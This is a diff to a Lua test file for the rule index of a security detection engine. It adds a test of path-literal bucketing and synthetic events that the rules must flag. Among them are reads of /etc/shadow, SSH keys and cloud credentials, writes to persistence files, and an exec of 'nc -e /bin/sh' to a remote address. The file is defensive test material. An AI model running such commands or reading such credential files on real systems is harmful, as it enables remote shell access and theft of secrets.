@@ -68,6 +68,21 @@ describe("the rule index", function()
     assert.is_nil(key_of(rule("      filename: {regex: 'shadow'}\n")))           -- no anchored literal
   end)
 
+  it("files a bucket's long literals under their next 4 bytes as well (the deeper levels)", function()
+    local key = { side = "pre", p = "e.filename", lits = { "/etc/shadow", "/etc/gshadow", "/var/spool/cron/" } }
+    local etc = compile.bucket_lits(key, word("/etc"))
+    assert.same({ "/etc/shadow", "/etc/gshadow" }, etc)
+    assert.same({ [word("/sha")] = { "/etc/shadow" }, [word("/gsh")] = { "/etc/gshadow" } }, compile.next_words(etc, 5))
+    assert.same({ [word("adow")] = { "/etc/gshadow" } }, compile.next_words({ "/etc/gshadow" }, 9))
+    -- a literal ending before the next 4 bytes: the rule runs for every string at its node
+    assert.is_nil(compile.next_words({ "/etc/", "/etc/shadow" }, 5))
+    assert.is_nil(compile.next_words({ "/etc/shadow" }, 9))
+    assert.is_nil(compile.next_words({}, 5))
+    -- suffixes and the program's name stay on one level
+    assert.is_nil(compile.bucket_lits({ side = "suf", p = "e.filename", lits = { "/etc/shadow" } }, word("adow")))
+    assert.is_nil(compile.bucket_lits({ side = "pre", p = "NMP", lits = { "python3.11" } }, word("pyth")))
+  end)
+
   it("fires exactly as the rules evaluated one by one, on the stock set and a corpus", function()
     local corpus = os.tmpname()
     assert(os.execute("build/eg_bench_engine -n 30000 --write " .. corpus .. " >/dev/null 2>&1") == 0)
@@ -78,6 +93,21 @@ describe("the rule index", function()
       { type = "open", comm = "cat", filename = "/run/secrets/kubernetes.io/serviceaccount/token", ret = 3 },
       { type = "open", comm = "a", filename = "", ret = 3 },
       { type = "open", comm = "grep", filename = "/root/.bash_history", ret = 3 },
+      -- the second level: strings of the same first 4 bytes, long and short
+      { type = "open", comm = "cat", filename = "/etc/shadow", ret = 3 },
+      { type = "open", comm = "cat", filename = "/etc/gshadow-", ret = 3 },
+      { type = "open", comm = "cat", filename = "/etc/sh", ret = 3 },
+      { type = "open", comm = "cat", filename = "/etc/", ret = 3 },
+      { type = "open", comm = "vi", filename = "/etc/cron.d/job", ret = 3, open_flags = 577 },
+      { type = "open", comm = "vi", filename = "/etc/ld.so.preload", ret = 3, open_flags = 577 },
+      { type = "open", comm = "vi", filename = "/etc/sudoers.d/x", ret = 3, open_flags = 577 },
+      { type = "open", comm = "vi", filename = "/etc/systemd/system/x.service", ret = 3, open_flags = 577 },
+      { type = "open", comm = "vi", filename = "/var/spool/cron/crontabs/root", ret = 3, open_flags = 577 },
+      { type = "open", comm = "cat", filename = "/home/u/.ssh/id_rsa", ret = 3 },
+      { type = "open", comm = "cat", filename = "/home/u/.aws/credentials", ret = 3 },
+      { type = "open", comm = "cat", filename = "/proc/1/mem", ret = 3 },
+      { type = "exec", comm = "sh", filename = "/tmp/.x/run", exe = "/tmp/.x/run", args = { "run" } },
+      { type = "exec", comm = "sh", filename = "/usr/bin/nc", exe = "/usr/bin/nc.openbsd", args = { "nc", "-e", "/bin/sh", "1.2.3.4", "4444" } },
     }
     local fired = {}
     for _, on in ipairs({ true, false }) do
@@ -90,6 +120,7 @@ describe("the rule index", function()
     compile.INDEX = true
     os.remove(corpus)
     assert.is_true(#fired[1][1] > 100)
+    assert.is_true(#fired[1][2] > 8)
     assert.same(fired[2], fired[1])
   end)
 end)
